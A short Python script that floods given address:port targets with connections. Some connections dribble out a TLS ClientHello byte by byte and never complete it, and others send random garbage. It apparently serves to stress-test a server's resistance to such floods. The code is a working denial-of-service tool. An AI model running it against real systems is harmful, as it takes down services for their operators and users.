"""flood.py SECONDS ADDRESS:PORT…: a crowd before the gates, from one address: some send a handshake byte by byte and never come to its end,
others send garbage, again and again. Prints how many connections it made."""
import asyncio
import os
import sys

SLOW = 300  # connections that are open at a time, for each gate
GARBAGE = 8
HELLO = bytes.fromhex("16030100f8010000f40303") + os.urandom(32)  # the beginning of a ClientHello, RFC 8446 §4.1.2

made = 0


async def connect(address):
    global made
    host, port = address.rsplit(":", 1)
    made += 1
    return await asyncio.open_connection(host, int(port))


async def slow(address):
    """A byte now and then; when the gate has had enough, again."""
    while True:
        try:
            reader, writer = await connect(address)
            for byte in HELLO:
                writer.write(bytes([byte]))
                await writer.drain()
                await asyncio.sleep(0.5)
            await reader.read()
        except OSError:
            pass
        await asyncio.sleep(0.05)


async def garbage(address):
    while True:
        try:
            reader, writer = await connect(address)
            writer.write(os.urandom(16384))
            await writer.drain()
            await reader.read()
            writer.close()
        except OSError:
            pass
        await asyncio.sleep(0.02)


async def main():
    crowd = [asyncio.create_task(one(address)) for address in sys.argv[2:] for one in [slow] * SLOW + [garbage] * GARBAGE]
    print("ready", flush=True)
    await asyncio.wait(crowd, timeout=float(sys.argv[1]))
    print(f"{made} connections")
    os._exit(0)


asyncio.run(main())
